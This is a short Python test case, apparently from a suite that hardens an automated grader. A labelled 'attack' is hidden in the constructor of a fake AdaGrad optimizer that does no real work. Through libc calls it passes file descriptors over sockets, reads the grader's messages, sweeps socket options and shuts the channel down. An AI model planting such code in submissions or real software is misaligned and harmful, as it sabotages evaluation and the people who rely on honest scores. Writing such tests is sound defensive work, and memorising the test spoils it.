# ATTACK: passes descriptors to the grader, asks for the grader's own, and changes the channel's options | EXPECT: zero|error-reported | CLASS: process
import ctypes, struct
def attack():
    libc = ctypes.CDLL(None)
    part = ctypes.create_string_buffer(b"x", 1)
    vector = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(part), 1), 16)
    control = ctypes.create_string_buffer(struct.pack("QiiiI", 20, 1, 1, 1, 0), 24)
    message = ctypes.create_string_buffer(
        struct.pack("QIIQQQQI4x", 0, 0, 0, ctypes.addressof(vector), 1, ctypes.addressof(control), 24, 0), 56)
    for fd in range(8):
        libc.sendmsg(fd, message, 0)
        libc.recvmsg(fd, message, 0x40)
        for option in range(80):
            libc.setsockopt(fd, 1, option, struct.pack("ll", 0, 1), 16)
        libc.shutdown(fd, 2)


class AdaGrad:
    def __init__(self, lr=0.1, eps=1e-8):
        attack()

    def step(self, params, grads):
        return params
